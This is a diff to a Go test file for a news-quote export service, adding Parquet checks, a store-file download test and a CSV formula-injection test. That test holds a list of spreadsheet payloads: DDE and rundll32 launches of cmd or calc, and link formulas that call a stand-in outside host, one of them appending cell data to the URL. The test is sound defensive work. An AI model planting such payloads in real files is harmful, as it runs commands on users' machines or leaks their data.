@@ -6,9 +6,13 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"io"
 	"iter"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"slices"
 	"strconv"
 	"strings"
@@ -17,6 +21,7 @@ import (
 	"github.com/PuerkitoBio/goquery"
 
 	"tenor"
+	"tenor/store"
 )
 
 // The number of quotes said, those listed over all pages, and the rows of each
@@ -63,8 +68,13 @@ func TestCountEqualsListEqualsFiles(t *testing.T) {
 			}
 			lines = append(lines, r.ID)
 		}
-		if total != count || total != len(exported) || !slices.Equal(exported, lines) {
-			t.Errorf("%q: %d quotes said, %d listed, %d in the CSV, %d in JSON Lines, or in another order", query, total, count, len(exported), len(lines))
+		var typed []string
+		_, table := readParquet(t, ask(t, h, "/quotes.parquet?"+query).Body.Bytes())
+		for _, row := range table {
+			typed = append(typed, row.QuoteID)
+		}
+		if total != count || total != len(exported) || !slices.Equal(exported, lines) || !slices.Equal(exported, typed) {
+			t.Errorf("%q: %d quotes said, %d listed, %d in the CSV, %d in JSON Lines, %d in Parquet, or in another order", query, total, count, len(exported), len(lines), len(typed))
 			continue
 		}
 		rest := exported
@@ -115,12 +125,29 @@ func TestVoicesListedAreVoicesCounted(t *testing.T) {
 	}
 }
 
-func TestCSVGuardsFormulas(t *testing.T) {
+// formulas are cells that a spreadsheet would run, some only after it trimmed or joined
+// what stands around them.
+var formulas = []string{
+	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1\r\nx", "-2+3", "+1+cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0",
+	"=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=HYPERLINK(\"https://elsewhere.example\")", "=HYPERLINK(\"https://elsewhere.example?x=\"&A1,\"here\")",
+	"=IMPORTXML(\"https://elsewhere.example\",\"//a\")", "=IMPORTDATA(\"https://elsewhere.example\")", "=IMAGE(\"https://elsewhere.example/x.png\")",
+	"=WEBSERVICE(\"https://elsewhere.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
+	"+HYPERLINK(\"https://elsewhere.example\")", "-HYPERLINK(\"https://elsewhere.example\")", "@HYPERLINK(\"https://elsewhere.example\")",
+	"= 1+1", "=\t1+1", "=-1", "=+1", "=@A1", "==1", "--1+1", "++1", "-(1+1)", "+A1", "-A1", "@A1", "=\"\"", "=A1,B1", "=\"a\"\"b\"", "=SUM(1;2)|x",
+	"-", "+", "@", "=", "\t", "-1e5x", "=1\n=2", "+\u202e1", "=é", "\r\n=1",
+}
+
+// H14: no cell of the spreadsheet dialect is a formula, and every other format is exact.
+func TestNoFormulaLeaves(t *testing.T) {
+	if len(formulas) < 40 {
+		t.Fatalf("%d payloads", len(formulas))
+	}
 	s := emptyStore(t)
-	formulas := []string{"=1+1", "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "=HYPERLINK(\"https://elsewhere.example\")"}
+	want := map[string]string{} // by the file that the article names
 	for i, f := range formulas {
-		a := tenor.Article{File: strconv.Itoa(i), Title: f, Outlet: f, Text: f + " x", Published: onDay("2025-09-18"), KnownAt: today}
+		a := tenor.Article{URL: "https://news.example/" + strconv.Itoa(i), Title: f, Outlet: f, Text: f + " x", Published: onDay("2025-09-18"), KnownAt: today}
 		save(t, s, a, tenor.Quote{Spans: []tenor.Span{{0, len(f)}}, Kind: tenor.Direct, Speaker: f, SpeakerType: tenor.Analyst, Firm: f, Role: f, Stance: tenor.Neutral, Subject: "gold"})
+		want[a.URL] = f
 	}
 	h := handlerOf(t, s, Options{})
 	excel, err := csv.NewReader(ask(t, h, "/quotes.csv").Body).ReadAll()
@@ -132,19 +159,41 @@ func TestCSVGuardsFormulas(t *testing.T) {
 	}
 	for _, row := range excel[1:] {
 		for _, cell := range row {
-			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
 				t.Errorf("a spreadsheet would run %q", cell)
 			}
 		}
 	}
-	raw, err := csv.NewReader(ask(t, h, "/quotes.csv?dialect=raw").Body).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, row := range raw[1:] {
-		if row[3] != row[13] && strings.TrimSpace(row[3]) != strings.TrimSpace(row[13]) {
-			t.Errorf("the raw dialect changed %q or %q", row[3], row[13])
+	exact := func(format, url string, cells ...string) {
+		for _, cell := range cells {
+			if cell != want[url] {
+				t.Errorf("%s: %q became %q", format, want[url], cell)
+			}
 		}
+	}
+	raw := ask(t, h, "/quotes.csv?dialect=raw").Body.String()
+	for url, f := range want { // not read back by encoding/csv, which makes a line end one byte
+		cell := f
+		if strings.ContainsAny(f, "\",\r\n") || f[0] == '\t' {
+			cell = `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
+		}
+		if row := "," + strings.Join([]string{cell, cell, cell, url}, ",") + ","; !strings.Contains(raw, row) {
+			t.Errorf("the raw dialect lacks %q", row)
+		}
+	}
+	for scan := bufio.NewScanner(ask(t, h, "/quotes.jsonl").Body); scan.Scan(); {
+		var r tenor.Record
+		if err := json.Unmarshal(scan.Bytes(), &r); err != nil {
+			t.Fatal(err)
+		}
+		exact("JSON Lines", r.URL, r.Text(), r.Outlet, r.Title, r.Speaker, r.Firm, r.Role)
+	}
+	_, rows := readParquet(t, ask(t, h, "/quotes.parquet").Body.Bytes())
+	if len(rows) != len(formulas) {
+		t.Errorf("%d rows of Parquet", len(rows))
+	}
+	for _, r := range rows {
+		exact("Parquet", r.URL, r.Quote, r.Outlet, r.Title, r.Analyst, r.Firm, r.Role)
 	}
 }
 
@@ -152,7 +201,7 @@ func TestCSVGuardsFormulas(t *testing.T) {
 func TestBrokenExportBreaksOff(t *testing.T) {
 	server := httptest.NewServer(handlerOf(t, brokenStore{err: errors.New("disk gone")}, Options{}))
 	defer server.Close()
-	for _, path := range []string{"/quotes.csv", "/quotes.jsonl"} {
+	for _, path := range []string{"/quotes.csv", "/quotes.jsonl", "/quotes.parquet"} {
 		answer, err := http.Get(server.URL + path)
 		if err != nil {
 			continue // broken off before the header: as good
@@ -198,5 +247,49 @@ func TestOneExportAtATime(t *testing.T) {
 	go func() { <-s.begun }()
 	if w := ask(t, h, "/quotes.csv"); w.Code != http.StatusOK {
 		t.Errorf("the next export answers %d", w.Code)
+	}
+}
+
+// The store comes whole, with its size, and is opened by the same program.
+func TestStoreFile(t *testing.T) {
+	s := seeded(t)
+	server := httptest.NewServer(handlerOf(t, s, Options{}))
+	defer server.Close()
+	answer, err := http.Get(server.URL + "/store.db")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer answer.Body.Close()
+	data, err := io.ReadAll(answer.Body)
+	if err != nil || answer.ContentLength != int64(len(data)) || answer.Header.Get("Content-Disposition") != `attachment; filename="tenor-store.db"` {
+		t.Fatalf("%d bytes, %v (%v)", len(data), answer.Header, err)
+	}
+	path := filepath.Join(t.TempDir(), "copy.db")
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	again, err := store.Open(t.Context(), path, store.Options{ReadOnly: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer again.Close()
+	want, err1 := s.Totals(t.Context())
+	got, err2 := again.Totals(t.Context())
+	if err := errors.Join(err1, err2); err != nil || got != want {
+		t.Errorf("%+v, want %+v (%v)", got, want, err)
+	}
+}
+
+// fullStore has no room for a copy.
+type fullStore struct{ Store }
+
+func (fullStore) Snapshot(context.Context) (io.ReadCloser, int64, error) {
+	return nil, 0, fmt.Errorf("copy /home/secret/t.db: %w", &tenor.NoRoomError{Need: 3e9, Free: 2e6})
+}
+
+func TestStoreFileNeedsRoom(t *testing.T) {
+	w := ask(t, handlerOf(t, fullStore{}, Options{}), "/store.db")
+	if w.Code != http.StatusInsufficientStorage || strings.TrimSpace(w.Body.String()) != "A copy of the store takes 3001 MB, and the disk has 2 MB free: free some space there, then try again." {
+		t.Errorf("%d: %s", w.Code, w.Body)
 	}
 }
